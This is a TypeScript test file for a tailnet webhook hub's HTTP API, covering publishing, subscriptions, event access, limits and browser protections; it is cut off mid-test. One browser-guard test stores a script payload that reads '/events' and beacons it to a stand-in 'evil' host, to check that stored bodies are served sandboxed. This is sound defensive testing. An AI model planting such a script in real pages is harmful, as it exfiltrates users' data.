// The HTTP API through app.inject: a real Hub over a real SQLite store, callers named by a test
// header instead of WhoIs, deliveries recorded instead of sent.
import { PassThrough } from 'node:stream';
import type { FastifyInstance } from 'fastify';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import type { EventDetail, HubStatus } from '@krkn/hub-api';
import { StoreError, type SqliteStore } from '@krkn/hub-store';
import { Hub, HubError, defaultCredentialHeaders, type Caller, type HubLimits, type Identify } from '@krkn/hub';
import { FakeNode, Recorder, silentLogger, tempStore } from './helpers.js';

const capability = 'krkn.dev/cap/webhooks';
type Grant = { publish?: string[]; subscribe?: string[]; read?: string[] };
const peer = (name: string, ip: string, grant?: Grant): Caller => ({
  kind: 'peer',
  ip,
  nodeId: `n-${name}`,
  node: `${name}.krkn.test`,
  user: name,
  tags: [],
  capMap: grant ? { [capability]: [grant] } : {},
});
const callers: Record<string, Caller> = {
  ci: peer('ci', '100.64.0.10', { publish: ['ci/**'], subscribe: ['ci/**'], read: ['ci/**'] }),
  dev: peer('dev', '100.64.0.11', { subscribe: ['ci/*'], read: ['ci/*'] }),
  pushOnly: peer('push', '100.64.0.13', { subscribe: ['ci/**'] }),
  stranger: peer('stranger', '100.64.0.12'),
  ops: peer('ops', '100.64.0.14', { read: ['**'] }),
  admin: { kind: 'admin' },
};
// The test's stand-in for WhoIs: the caller is named by a header (no header: not a tailnet node).
const identify: Identify = async (req) => {
  const caller = callers[String(req.headers['x-test-caller'])];
  if (!caller) throw new HubError('UNKNOWN_CALLER', `no tailnet node has address ${req.ip}`);
  return caller;
};

let store: SqliteStore;
let dispose: () => Promise<void>;
let rec: Recorder;
let node: FakeNode;
let hub: Hub;
let app: FastifyInstance;

/** Starts the hub under test on the store (with limits other than the defaults, and another body limit, if given). */
async function startHub(limits?: Partial<HubLimits>, bodyLimit = 1024): Promise<void> {
  hub = new Hub({
    store,
    node,
    logger: silentLogger,
    send: rec.send,
    config: {
      bodyLimit,
      retentionMs: 86400e3,
      retryScheduleMs: [0, 60_000],
      deliveryTimeoutMs: 1000,
      requireCapability: true,
      capabilityName: capability,
      maxConcurrentDeliveries: 4,
      credentialHeaders: [...defaultCredentialHeaders, 'X-Shop-Token'],
      ...(limits ? { limits } : {}),
    },
  });
  app = await hub.app(identify, { url: 'http://hub.krkn.test' });
  hub.start();
}

beforeEach(async () => {
  ({ store, dispose } = tempStore());
  rec = new Recorder();
  node = new FakeNode();
  await startHub();
});
afterEach(async () => {
  await hub.stop(1000);
  await app.close();
  await dispose();
});

type Answer = { status: number; json: () => unknown; body: string; headers: Record<string, unknown> };
type Method = 'GET' | 'POST' | 'DELETE';
/** One request as `as` (a key of callers; undefined: no tailnet identity). Objects are sent as JSON. */
async function call(as: string | undefined, method: Method, url: string, body?: unknown, type?: string) {
  const headers: Record<string, string> = as === undefined ? {} : { 'x-test-caller': as };
  if (type !== undefined) headers['content-type'] = type;
  const raw = typeof body === 'string' || Buffer.isBuffer(body);
  const payload = body === undefined ? undefined : raw ? body : JSON.stringify(body);
  if (payload !== undefined && type === undefined) headers['content-type'] = 'application/json';
  const res = await app.inject({ method, url, headers, ...(payload === undefined ? {} : { payload }) });
  const answer: Answer = { status: res.statusCode, json: () => res.json(), body: res.body, headers: res.headers };
  return answer;
}
const errorCode = (a: Answer) => (a.json() as { error: { code: string } }).error.code;
const publish = (as: string, topic: string, body: string | Buffer = '{"ok":true}', type = 'application/json') =>
  call(as, 'POST', `/hooks/${topic}`, body, type);
const subscribe = (as: string, body: unknown) => call(as, 'POST', '/subscriptions', body);
const until = async (cond: () => boolean | Promise<boolean>) => {
  for (let i = 0; i < 200 && !(await cond()); i++) await new Promise((r) => setTimeout(r, 5));
  expect(await cond()).toBe(true);
};

describe('publish', () => {
  it('answers 202 with the event id and stores the raw body and headers', async () => {
    const raw = Buffer.from([0, 255, 10, 0x7b]);
    const res = await publish('ci', 'ci/build', raw, 'application/octet-stream');
    expect(res.status).toBe(202);
    const { id, topic, duplicate } = res.json() as { id: string; topic: string; duplicate: boolean };
    expect({ topic, duplicate }).toEqual({ topic: 'ci/build', duplicate: false });
    expect(id).toMatch(/^evt_[0-9a-z]+$/); // made of the hub's clock: whole milliseconds
    const stored = (await store.getEvent(id))!;
    expect(stored.body.equals(raw)).toBe(true);
    expect(stored.sender).toEqual({ ip: '100.64.0.10', node: 'ci.krkn.test', user: 'ci', tags: [] });
    expect(stored.headers).toContainEqual(['content-type', 'application/octet-stream']);
  });

  it('dedupes by Idempotency-Key: the second publish names the first event', async () => {
    const headers = { 'idempotency-key': 'k1', 'content-type': 'application/json', 'x-test-caller': 'ci' };
    const first = await app.inject({ method: 'POST', url: '/hooks/ci/x', headers, payload: '{}' });
    const again = await app.inject({ method: 'POST', url: '/hooks/ci/x', headers, payload: '{}' });
    expect(again.json()).toEqual({ id: first.json<{ id: string }>().id, topic: 'ci/x', duplicate: true });
  });

  it.each([
    ['a//b', 'an empty segment'],
    ['ci/bu ild', 'a space'],
    ['ci/*', 'a wildcard'],
    ['ci/сборка', 'letters beyond Latin-1'],
    ['ci/🚀', 'an emoji'],
  ])('answers 400 BAD_TOPIC for %s (%s)', async (topic) => {
    const res = await publish('ci', encodeURI(topic));
    expect([res.status, errorCode(res)]).toEqual([400, 'BAD_TOPIC']);
  });

  it('answers 403 MISSING_CAPABILITY outside the grant, and to a peer with no grant at all', async () => {
    for (const [as, topic] of [
      ['ci', 'prod/deploy'],
      ['dev', 'ci/build'],
      ['stranger', 'ci/build'],
    ] as const) {
      const res = await publish(as, topic);
      expect([res.status, errorCode(res)]).toEqual([403, 'MISSING_CAPABILITY']);
    }
    expect(await store.listEvents()).toHaveLength(0);
  });

  it('answers 403 UNKNOWN_CALLER when the caller is no tailnet node', async () => {
    const res = await call(undefined, 'POST', '/hooks/ci/build', '{}');
    expect([res.status, errorCode(res)]).toEqual([403, 'UNKNOWN_CALLER']);
  });

  it('answers 413 over the body limit, but refuses an unauthorised caller before reading the body', async () => {
    const big = Buffer.alloc(2048, 1);
    const tooLarge = await publish('ci', 'ci/build', big, 'application/octet-stream');
    expect([tooLarge.status, errorCode(tooLarge)]).toEqual([413, 'BODY_TOO_LARGE']);
    const refused = await publish('stranger', 'ci/build', big, 'application/octet-stream');
    expect([refused.status, errorCode(refused)]).toEqual([403, 'MISSING_CAPABILITY']);
  });

  it('lets the admin socket publish anywhere, as the "admin socket" sender', async () => {
    const res = await publish('admin', 'prod/deploy');
    expect(res.status).toBe(202);
    expect((await store.getEvent((res.json() as { id: string }).id))!.sender.node).toBe('admin socket');
  });
});

describe('subscriptions', () => {
  it('subscribes a peer to its own address (201), delivers to it, and lists it only to its owner', async () => {
    const res = await subscribe('ci', { topics: ['ci/*'], port: 8080, path: '/in' });
    expect(res.status).toBe(201);
    type Info = { id: string; address: string; port: number; path: string };
    const { subscription } = res.json() as { subscription: Info };
    expect(subscription).toMatchObject({ address: '100.64.0.10', port: 8080, path: '/in' });
    const id = ((await publish('ci', 'ci/build')).json() as { id: string }).id;
    await until(() => rec.sent.length === 1);
    expect(rec.sent[0]).toMatchObject({ event: id, subscription: subscription.id, attempt: 1 });

    const mine = (await call('ci', 'GET', '/subscriptions')).json() as { subscriptions: { id: string }[] };
    const theirs = (await call('dev', 'GET', '/subscriptions')).json() as { subscriptions: unknown[] };
    const all = (await call('admin', 'GET', '/subscriptions')).json() as { subscriptions: unknown[] };
    expect(mine.subscriptions.map((s) => s.id)).toEqual([subscription.id]);
    expect([theirs.subscriptions.length, all.subscriptions.length]).toEqual([0, 1]);
  });

  it('answers a subscription secret once: on creation and on rotation, never in a listing or a plain resubscribe', async () => {
    type Info = { id: string; secret?: string };
    const sub = async (body: object) => ((await subscribe('ci', body)).json() as { subscription: Info }).subscription;
    const first = await sub({ topics: ['ci/*'], port: 8081 });
    expect(first.secret).toMatch(/^whsec_/);
    expect((await sub({ topics: ['ci/*'], port: 8081 })).secret).toBeUndefined();
    const rotated = await sub({ topics: ['ci/*'], port: 8081, rotateSecret: true });
    expect(rotated.secret).toMatch(/^whsec_/);
    expect(rotated.secret).not.toBe(first.secret);
    expect(await store.getSubscription(first.id)).toMatchObject({
      secret: rotated.secret,
      previousSecret: { secret: first.secret, until: expect.any(Number) as unknown },
    });
    const listed = (await call('ci', 'GET', '/subscriptions')).json() as { subscriptions: Info[] };
    expect(listed.subscriptions.every((s) => s.secret === undefined)).toBe(true);
    const bad = await subscribe('ci', { topics: ['ci/*'], port: 8081, rotateSecret: 'yes' });
    expect([bad.status, errorCode(bad)]).toEqual([400, 'BAD_REQUEST']);
  });

  it.each([
    ['no topics', { port: 80 }],
    ['an empty topic list', { topics: [], port: 80 }],
    ['a port out of range', { topics: ['ci/*'], port: 70000 }],
    ['a relative path', { topics: ['ci/*'], port: 80, path: 'in' }],
  ])('answers 400 BAD_REQUEST for %s', async (_name, body) => {
    const res = await subscribe('ci', body);
    expect([res.status, errorCode(res)]).toEqual([400, 'BAD_REQUEST']);
  });

  it('answers 400 BAD_TOPIC for a malformed pattern and 403 for a pattern wider than the grant', async () => {
    const bad = await subscribe('dev', { topics: ['ci/**/x'], port: 80 });
    expect([bad.status, errorCode(bad)]).toEqual([400, 'BAD_TOPIC']);
    const wide = await subscribe('dev', { topics: ['ci/**'], port: 80 });
    expect([wide.status, errorCode(wide)]).toEqual([403, 'MISSING_CAPABILITY']);
  });

  it('answers 415 for a body that is not JSON, and 400 for malformed JSON', async () => {
    const xml = await call('ci', 'POST', '/subscriptions', '<x/>', 'application/xml');
    expect([xml.status, errorCode(xml)]).toEqual([415, 'UNSUPPORTED_MEDIA_TYPE']);
    const broken = await call('ci', 'POST', '/subscriptions', '{"port":', 'application/json');
    expect([broken.status, errorCode(broken)]).toEqual([400, 'BAD_REQUEST']);
  });

  it('refuses a body naming another target (403 FORBIDDEN_TARGET), and the admin socket (400)', async () => {
    for (const extra of [{ address: '100.64.0.99' }, { url: 'http://100.64.0.99:80/' }, { host: '[fd7a::1]' }]) {
      const res = await subscribe('ci', { topics: ['ci/*'], port: 80, ...extra });
      expect([res.status, errorCode(res)]).toEqual([403, 'FORBIDDEN_TARGET']);
    }
    const own = await subscribe('ci', { topics: ['ci/*'], port: 80, url: 'http://100.64.0.10:80/' });
    expect(own.status).toBe(201);
    const admin = await subscribe('admin', { topics: ['ci/*'], port: 80 });
    expect([admin.status, errorCode(admin)]).toEqual([400, 'BAD_REQUEST']);
  });

  it('lets only the owner (or the admin socket) delete a subscription', async () => {
    const subscribed = async (port: number) =>
      ((await subscribe('ci', { topics: ['ci/*'], port })).json() as { subscription: { id: string } }).subscription.id;
    const ids = [await subscribed(80), await subscribed(81)];
    const notYours = await call('dev', 'DELETE', `/subscriptions/${ids[0]}`);
    expect([notYours.status, errorCode(notYours)]).toEqual([403, 'NOT_YOURS']);
    expect((await call('ci', 'DELETE', `/subscriptions/${ids[0]}`)).json()).toEqual({ id: ids[0], deleted: true });
    expect((await call('admin', 'DELETE', `/subscriptions/${ids[1]}`)).status).toBe(200);
    const gone = await call('ci', 'DELETE', `/subscriptions/${ids[0]}`);
    expect([gone.status, errorCode(gone)]).toEqual([404, 'SUBSCRIPTION_NOT_FOUND']);
    expect(await store.listSubscriptions()).toEqual([]);
  });
});

describe('events', () => {
  it('lists only the events the caller may read, filtered by pattern', async () => {
    for (const t of ['ci/build', 'ci/build/linux', 'prod/deploy']) expect((await publish('admin', t)).status).toBe(202);
    const topics = async (as: string, query = '') =>
      ((await call(as, 'GET', `/events${query}`)).json() as { events: { topic: string }[] }).events.map((e) => e.topic);
    expect(await topics('admin')).toEqual(['ci/build', 'ci/build/linux', 'prod/deploy']);
    expect(await topics('ci')).toEqual(['ci/build', 'ci/build/linux']);
    expect(await topics('dev')).toEqual(['ci/build']);
    expect(await topics('admin', '?topic=ci/**&limit=1')).toEqual(['ci/build']);
    const bad = await call('admin', 'GET', '/events?limit=0');
    expect([bad.status, errorCode(bad)]).toEqual([400, 'BAD_REQUEST']);
  });

  it('pages newest first before an id, lists sizes without bodies, and refuses an unknown order', async () => {
    for (const t of ['ci/a', 'prod/x', 'ci/b', 'ci/c'])
      expect((await publish('admin', t, `body of ${t}`)).status).toBe(202);
    type Listed = { id: string; topic: string; size: number };
    const list = async (query: string) =>
      ((await call('ci', 'GET', `/events${query}`)).json() as { events: Listed[] }).events;
    const newest = await list('?order=newest&limit=2');
    expect(newest.map((e) => e.topic)).toEqual(['ci/c', 'ci/b']);
    expect(newest[0]).toMatchObject({ size: 'body of ci/c'.length });
    expect(newest[0]).not.toHaveProperty('body');
    const older = await list(`?order=newest&limit=2&before=${newest[1]!.id}`);
    expect(older.map((e) => e.topic)).toEqual(['ci/a']); // prod/x is not readable by ci: filtered in the query
    const bad = await call('ci', 'GET', '/events?order=sideways');
    expect([bad.status, errorCode(bad)]).toEqual([400, 'BAD_REQUEST']);
  });

  it.each(['topic=ci/*&topic=ci/**', 'limit=1&limit=2', 'after=a&after=b', 'since=1&since=2'])(
    'answers 400 BAD_REQUEST, not 500, to a repeated query parameter (%s)',
    async (query) => {
      const res = await call('admin', 'GET', `/events?${query}`);
      expect([res.status, errorCode(res)]).toEqual([400, 'BAD_REQUEST']);
      expect((res.json() as { error: { message: string } }).error.message).toMatch(/must be given once/);
    },
  );

  it('serves one event with its headers and body, or 404 / 403', async () => {
    const id = ((await publish('ci', 'ci/build', 'hello', 'text/plain')).json() as { id: string }).id;
    type Detail = { event: { bodyBase64: string; contentType: string } };
    const detail = (await call('dev', 'GET', `/events/${id}`)).json() as Detail;
    expect(Buffer.from(detail.event.bodyBase64, 'base64').toString()).toBe('hello');
    expect(detail.event.contentType).toBe('text/plain');
    const body = await call('ci', 'GET', `/events/${id}/body`);
    expect([body.body, body.headers['content-type']]).toEqual(['hello', 'text/plain']);
    const missing = await call('ci', 'GET', '/events/evt_nope');
    expect([missing.status, errorCode(missing)]).toEqual([404, 'EVENT_NOT_FOUND']);
    const hidden = await call('stranger', 'GET', `/events/${id}`);
    expect([hidden.status, errorCode(hidden)]).toEqual([403, 'MISSING_CAPABILITY']);
  });

  it('lets a subscribe grant push events but not pull them: reading needs the read grant', async () => {
    const id = ((await publish('ci', 'ci/build')).json() as { id: string }).id;
    expect((await subscribe('pushOnly', { topics: ['ci/**'], port: 80 })).status).toBe(201);
    const one = await call('pushOnly', 'GET', `/events/${id}`);
    expect([one.status, errorCode(one)]).toEqual([403, 'MISSING_CAPABILITY']);
    expect((await call('pushOnly', 'GET', `/events/${id}/body`)).status).toBe(403);
    expect((await call('pushOnly', 'GET', '/events')).json()).toEqual({ events: [] });
  });

  it('never returns credential headers (default and configured) through the API; the store keeps them', async () => {
    const secret = {
      authorization: 'Bearer s3cret',
      cookie: 'session=abc',
      'proxy-authorization': 'Basic eA==',
      'x-shop-token': 'tok',
      'x-hub-signature-256': 'sha256=00',
    };
    const headers = { ...secret, 'content-type': 'text/plain', 'x-test-caller': 'ci' };
    const published = await app.inject({ method: 'POST', url: '/hooks/ci/build', headers, payload: 'x' });
    const id = published.json<{ id: string }>().id;
    for (const as of ['ci', 'admin']) {
      const { event } = (await call(as, 'GET', `/events/${id}`)).json() as { event: EventDetail };
      const names = event.headers.map(([k]) => k.toLowerCase());
      expect(names).toContain('x-hub-signature-256');
      expect(names.filter((n) => n in secret && n !== 'x-hub-signature-256')).toEqual([]);
      // (Proxy-Authorization is hop-by-hop: never stored, so never withheld either.)
      expect(event.withheldHeaders.sort()).toEqual(['authorization', 'cookie', 'x-shop-token']);
    }
    const stored = (await store.getEvent(id))!.headers.map(([k, v]) => `${k.toLowerCase()}: ${v}`);
    expect(stored).toEqual(expect.arrayContaining(['authorization: Bearer s3cret', 'x-shop-token: tok']));
  });

  it('redelivers from attempt one (202): a peer to its own subscriptions, the admin socket to all', async () => {
    const own = (await subscribe('ci', { topics: ['ci/*'], port: 80 })).json() as { subscription: { id: string } };
    await subscribe('dev', { topics: ['ci/*'], port: 80 });
    const id = ((await publish('ci', 'ci/build')).json() as { id: string }).id;
    await until(async () => (await store.deliveriesOf(id)).filter((d) => d.state === 'delivered').length === 2);
    const res = await call('ci', 'POST', `/events/${id}/redeliver`);
    expect([res.status, res.json()]).toEqual([202, { id, deliveries: 1 }]);
    await until(() => rec.sent.length === 3);
    // Marked as a redelivery (a token), so a receiver that dedupes on the event id lets it through.
    expect(rec.sent[2]).toMatchObject({ event: id, subscription: own.subscription.id, attempt: 1 });
    const tokens = [rec.sent[0]!.redelivery, rec.sent[2]!.redelivery];
    expect(tokens).toEqual([undefined, expect.stringMatching(/^[0-9a-z]+$/)]);
    const all = await call('admin', 'POST', `/events/${id}/redeliver`);
    expect([all.status, all.json()]).toEqual([202, { id, deliveries: 2 }]);
    await until(() => rec.sent.length === 5);
    const missing = await call('ci', 'POST', '/events/evt_nope/redeliver');
    expect([missing.status, errorCode(missing)]).toEqual([404, 'EVENT_NOT_FOUND']);
  });
});

describe('limits', () => {
  const restartWith = async (limits: Partial<HubLimits>, bodyLimit?: number) => {
    await hub.stop(1000);
    await app.close();
    await startHub(limits, bodyLimit);
  };

  it('answers 400 TOO_MANY_TOPICS past the topics a subscription may list, and stores nothing', async () => {
    await restartWith({ topicsPerSubscription: 2 });
    const res = await subscribe('ci', { topics: ['ci/a', 'ci/b', 'ci/c'], port: 8080 });
    expect([res.status, errorCode(res)]).toEqual([400, 'TOO_MANY_TOPICS']);
    expect((res.json() as { error: { message: string } }).error.message).toMatch(/at most 2 topics or patterns, not 3/);
    expect(await store.listSubscriptions()).toHaveLength(0);
    expect((await subscribe('ci', { topics: ['ci/a', 'ci/b'], port: 8080 })).status).toBe(201);
  });

  it("answers 409 SUBSCRIPTION_LIMIT to a node's subscription past its bound; an update passes", async () => {
    await restartWith({ subscriptionsPerNode: 2 });
    for (const port of [8080, 8081]) expect((await subscribe('ci', { topics: ['ci/a'], port })).status).toBe(201);
    const res = await subscribe('ci', { topics: ['ci/a'], port: 8082 });
    expect([res.status, errorCode(res)]).toEqual([409, 'SUBSCRIPTION_LIMIT']);
    expect((res.json() as { error: { message: string } }).error.message).toMatch(/ci\.krkn\.test already holds 2/);
    expect((await subscribe('ci', { topics: ['ci/b'], port: 8081 })).status).toBe(201);
    expect((await subscribe('dev', { topics: ['ci/a'], port: 8082 })).status).toBe(201);
    expect(await store.listSubscriptions()).toHaveLength(3);
  });

  it('expires a subscription whose node stayed offline or gone past the expiry, not an online one', async () => {
    node.peers = [{ online: true, addresses: ['100.64.0.11'] }]; // dev is online; ci is not in the netmap
    await restartWith({ subscriptionExpiryMs: 1_000 });
    expect((await subscribe('ci', { topics: ['ci/a'], port: 8080 })).status).toBe(201);
    expect((await subscribe('dev', { topics: ['ci/a'], port: 8080 })).status).toBe(201);
    const nodes = async () => (await store.listSubscriptions()).map((x) => [x.nodeName, x.offlineSince !== null]);
    for (let i = 0; i < 40 && (await nodes()).length > 1; i++) await new Promise((r) => setTimeout(r, 100));
    expect(await nodes()).toEqual([['dev.krkn.test', false]]);
    const published = await publish('ci', 'ci/a');
    const { id } = published.json() as { id: string };
    expect((await store.deliveriesOf(id)).map((d) => d.subscriptionId)).toHaveLength(1); // owed to dev only
  });

  it('expires a subscription whose address another online node now holds (its own node gone)', async () => {
    // ci was deleted and its address re-issued: the netmap shows that address online, under another node's id.
    node.peers = [{ online: true, addresses: ['100.64.0.10'], stableId: 'n-newcomer' }];
    await restartWith({ subscriptionExpiryMs: 1_000 });
    expect((await subscribe('ci', { topics: ['ci/a'], port: 8080 })).status).toBe(201);
    for (let i = 0; i < 40 && (await store.listSubscriptions()).length > 0; i++) {
      await new Promise((r) => setTimeout(r, 100));
    }
    expect(await store.listSubscriptions()).toEqual([]);
  });

  it('keeps the subscription of a node the netmap shows online under its own id', async () => {
    node.peers = [{ online: true, addresses: ['100.64.0.10'], stableId: 'n-ci' }];
    await restartWith({ subscriptionExpiryMs: 1_000 });
    expect((await subscribe('ci', { topics: ['ci/a'], port: 8080 })).status).toBe(201);
    await new Promise((r) => setTimeout(r, 2_500));
    expect((await store.listSubscriptions()).map((x) => [x.nodeName, x.offlineSince])).toEqual([
      ['ci.krkn.test', null],
    ]);
  });

  it('marks no subscription offline while its node runs from the cached netmap (peers not known yet)', async () => {
    node.peers = []; // a restarted node's cached netmap holds no peers: that says nothing about ci
    node.peersKnown = false;
    await restartWith({ subscriptionExpiryMs: 1_000 });
    expect((await subscribe('ci', { topics: ['ci/a'], port: 8080 })).status).toBe(201);
    await new Promise((r) => setTimeout(r, 2_500));
    expect((await store.listSubscriptions()).map((x) => [x.nodeName, x.offlineSince])).toEqual([
      ['ci.krkn.test', null],
    ]);
  });

  it('answers 507 STORE_LIMIT past the store size bound, stores nothing, publishes again under it', async () => {
    // Bounds far from SQLite's page size, so the answers hold whether the hub asks the size again or not.
    const size = await store.sizeBytes();
    await restartWith({ storeBytes: size + 100_000 }, 64_000);
    expect((await publish('ci', 'ci/a', 'x'.repeat(60_000))).status).toBe(202);
    const full = await publish('ci', 'ci/a', 'y'.repeat(60_000));
    expect([full.status, errorCode(full)]).toEqual([507, 'STORE_LIMIT']);
    expect((full.json() as { error: { message: string } }).error.message).toMatch(/--max-store-size/);
    expect((await store.listEvents()).map((e) => e.size)).toEqual([60_000]);
    // Refused on its Content-Length, before the body is read: a stream that never ends gets its 507 at once.
    const early = await app.inject({
      method: 'POST',
      url: '/hooks/ci/a',
      headers: { 'x-test-caller': 'ci', 'content-type': 'application/json', 'content-length': '60000' },
      payload: new PassThrough(), // never written: reading the body would hang the request
    });
    expect([early.statusCode, early.json<{ error: { code: string } }>().error.code]).toEqual([507, 'STORE_LIMIT']);
    expect((await publish('ci', 'ci/a', 'small')).status).toBe(202); // still within the bound
    await restartWith({ storeBytes: 0 }, 64_000); // 0: no bound
    expect((await publish('ci', 'ci/a', 'y'.repeat(60_000))).status).toBe(202);
  });
});

describe('the hub', () => {
  it('answers 404 NOT_FOUND to an unknown route, serves /healthz without identifying, /status to callers', async () => {
    const nope = await call('ci', 'GET', '/nope');
    expect([nope.status, errorCode(nope)]).toEqual([404, 'NOT_FOUND']);
    expect((await call(undefined, 'GET', '/healthz')).json()).toEqual({ ok: true });
    await publish('ci', 'ci/build');
    const status = (await call('stranger', 'GET', '/status')).json() as HubStatus;
    const expected = { node: { name: 'hub.krkn.test' }, listener: 'http://hub.krkn.test', storage: { events: 1 } };
    expect(status).toMatchObject(expected);
    expect(status.replicas).toMatchObject([{ name: 'hub', alive: true, self: true, leases: 0 }]);
  });

  it('shows a pending login URL on /status to the admin socket only', async () => {
    node.loginUrl = 'http://127.0.0.1:9/register/abc'; // whoever opens it first owns the next registration
    const asPeer = (await call('ci', 'GET', '/status')).json() as HubStatus;
    const asAdmin = (await call('admin', 'GET', '/status')).json() as HubStatus;
    expect([asPeer.loginUrl, asAdmin.loginUrl]).toEqual([undefined, 'http://127.0.0.1:9/register/abc']);
  });

  it('answers 500 INTERNAL without the details when the store fails', async () => {
    await store.close();
    const res = await call('ci', 'GET', '/events');
    expect(res.json()).toEqual({ error: { code: 'INTERNAL', message: 'internal error; see the krkns log' } });
    expect(res.status).toBe(500);
  });

  it('answers 503 STORE_UNAVAILABLE, never 202, when the store cannot commit; 202 again once it can', async () => {
    const realPublish = store.publish.bind(store);
    store.publish = async () => {
      throw new StoreError('UNAVAILABLE', 'the PostgreSQL store is unavailable: Connection terminated');
    };
    const down = await publish('ci', 'ci/build');
    expect([down.status, errorCode(down)]).toEqual([503, 'STORE_UNAVAILABLE']);
    expect(await store.listEvents()).toHaveLength(0);
    store.publish = realPublish;
    expect((await publish('ci', 'ci/build')).status).toBe(202);
  });

  it('answers 503 SHUTTING_DOWN once stopping', async () => {
    await hub.stop(1000);
    const res = await publish('ci', 'ci/build');
    expect([res.status, errorCode(res)]).toEqual([503, 'SHUTTING_DOWN']);
  });

  it("delivers a parked subscriber's queue as soon as the netmap shows it online", async () => {
    await subscribe('ci', { topics: ['ci/*'], port: 80 });
    rec.answer = () => ({ kind: 'unreachable', error: 'offline' });
    const id = ((await publish('ci', 'ci/build')).json() as { id: string }).id;
    await until(async () => (await store.listSubscriptions())[0]!.offlineSince !== null);
    rec.answer = () => ({ kind: 'delivered', status: 200 });
    node.emit('peers'); // still offline in the netmap: stays parked
    await new Promise((r) => setTimeout(r, 100));
    expect(rec.sent).toHaveLength(1);
    node.peers = [{ online: true, addresses: ['100.64.0.10'] }];
    node.emit('peers');
    await until(async () => (await store.deliveriesOf(id))[0]?.state === 'delivered');
    expect(rec.sent).toHaveLength(2);
  });

  it('checks a held queue again as soon as its address shows up online in the netmap, and resumes it', async () => {
    await subscribe('ci', { topics: ['ci/*'], port: 80 });
    rec.answer = () => ({ kind: 'held', reason: '100.64.0.10 now answers for another node' });
    const id = ((await publish('ci', 'ci/build')).json() as { id: string }).id;
    await until(async () => (await store.listSubscriptions())[0]!.held !== null);
    expect((await hub.status(callers.admin!)).storage.heldSubscriptions).toBe(1);
    rec.answer = () => ({ kind: 'delivered', status: 200 }); // the subscriber's own node is back there
    node.peers = [{ online: true, addresses: ['100.64.0.10'] }];
    node.emit('peers'); // long before its first probe (2 s)
    await until(async () => (await store.deliveriesOf(id))[0]?.state === 'delivered');
    expect(rec.sent).toHaveLength(2);
    expect((await store.listSubscriptions())[0]!.held).toBeNull();
  });
});

describe('browsers on tailnet devices (the tailnet listener guards them)', () => {
  let guarded: FastifyInstance;
  beforeEach(async () => {
    guarded = await hub.app(identify, { url: 'http://hub.krkn.test', guardBrowsers: true });
  });
  afterEach(async () => {
    await guarded.close();
  });
  const send = (method: Method, url: string, headers: Record<string, string>, payload?: string) =>
    guarded.inject({ method, url, headers: { 'x-test-caller': 'ci', ...headers }, ...(payload ? { payload } : {}) });
  const code = (res: { json: () => unknown }) => (res.json() as { error: { code: string } }).error.code;

  it("answers 421 to a Host that is none of krkns's names or addresses (DNS rebinding)", async () => {
    const rebound = await send('GET', '/events', { host: 'evil.example' });
    expect([rebound.statusCode, code(rebound)]).toEqual([421, 'MISDIRECTED_HOST']);
    const unknown = await guarded.inject({ method: 'GET', url: '/events', headers: { host: 'evil.example:80' } });
    expect([unknown.statusCode, code(unknown)]).toEqual([421, 'MISDIRECTED_HOST']);
    const publish = await send('POST', '/hooks/ci/build', { host: 'evil.example', 'content-type': 'text/plain' }, 'x');
    expect(publish.statusCode).toBe(421);
    for (const host of ['hub.krkn.test', 'HUB.krkn.test.', 'hub', '100.64.0.1', '100.64.0.1:80']) {
      expect([host, (await send('GET', '/events', { host })).statusCode]).toEqual([host, 200]);
    }
    expect((await store.stats()).events).toBe(0);
  });

  it('refuses a form-style cross-site POST (Sec-Fetch-Site, or Origin alone) and stores nothing', async () => {
    const form = { host: 'hub.krkn.test', 'content-type': 'application/x-www-form-urlencoded' };
    const evil = { 'sec-fetch-site': 'cross-site', origin: 'http://evil.example' };
    const modern = await send('POST', '/hooks/ci/build', { ...form, ...evil }, 'a=1');
    expect([modern.statusCode, code(modern)]).toEqual([403, 'CROSS_SITE']);
    const older = await send('POST', '/hooks/ci/build', { ...form, origin: 'http://evil.example' }, 'a=1');
    expect([older.statusCode, code(older)]).toEqual([403, 'CROSS_SITE']);
    const sandboxed = await send('POST', '/hooks/ci/build', { ...form, origin: 'null' }, 'a=1');
    expect([sandboxed.statusCode, code(sandboxed)]).toEqual([403, 'CROSS_SITE']);
    expect((await store.stats()).events).toBe(0);
    // Tools send neither header; a form-encoded webhook from one is a webhook like any other.
    expect((await send('POST', '/hooks/ci/build', form, 'a=1')).statusCode).toBe(202);
    const own = await send('POST', '/hooks/ci/build', { ...form, origin: 'http://hub.krkn.test' }, 'a=1');
    expect(own.statusCode).toBe(202);
  });

  it('refuses the simple (form) content types on JSON routes, so a form cannot subscribe or redeliver', async () => {
    const body = JSON.stringify({ topics: ['ci/**'], port: 80 });
    const plain = await send('POST', '/subscriptions', { host: 'hub', 'content-type': 'text/plain' }, body);
    expect([plain.statusCode, code(plain)]).toEqual([415, 'UNSUPPORTED_MEDIA_TYPE']);
    const published = await send('POST', '/hooks/ci/build', { host: 'hub', 'content-type': 'text/plain' }, 'x');
    const multipart = { host: 'hub', 'content-type': 'multipart/form-data; boundary=x' };
    const redeliver = await send('POST', `/events/${published.json<{ id: string }>().id}/redeliver`, multipart);
    expect([redeliver.statusCode, code(redeliver)]).toEqual([415, 'UNSUPPORTED_MEDIA_TYPE']);
    const json = await send('POST', '/subscriptions', { host: 'hub', 'content-type': 'application/json' }, body);
    expect(json.statusCode).toBe(201);
  });

  it('serves a stored body as an attachment, unsniffed, sandboxed', async () => {
    const html = '<script>fetch("/events").then(r => r.text()).then(t => navigator.sendBeacon("//evil", t))</script>';
    const published = await send('POST', '/hooks/ci/page', { host: 'hub', 'content-type': 'text/html' }, html);
    const id = published.json<{ id: string }>().id;
    const res = await send('GET', `/events/${id}/body`, { host: 'hub' });
    expect(res.body).toBe(html);
    expect(res.headers).toMatchObject({
      'content-type': 'text/html',
      'x-content-type-options': 'nosniff',
      'content-disposition': `attachment; filename="${id}"`,
      'content-security-policy': "sandbox; default-src 'none'",
    });
  });
});

describe('GET /metrics', () => {
  it('answers 404 while metrics are off', async () => {
    const res = await call('admin', 'GET', '/metrics');
    expect([res.status, errorCode(res)]).toEqual([404, 'NOT_FOUND']);
  });

  it('serves the page to a caller with the read right on every topic, 403 to narrower grants', async () => {
    hub.exposeMetrics(async () => ({ contentType: 'text/plain; version=0.0.4', body: 'krkn_up 1\n' }));
    for (const who of ['ops', 'admin']) {
      const res = await call(who, 'GET', '/metrics');
      expect([res.status, res.body, res.headers['content-type']]).toEqual([
        200,
        'krkn_up 1\n',
        'text/plain; version=0.0.4',
      ]);
    }
    for (const who of ['ci', 'dev', 'stranger']) {
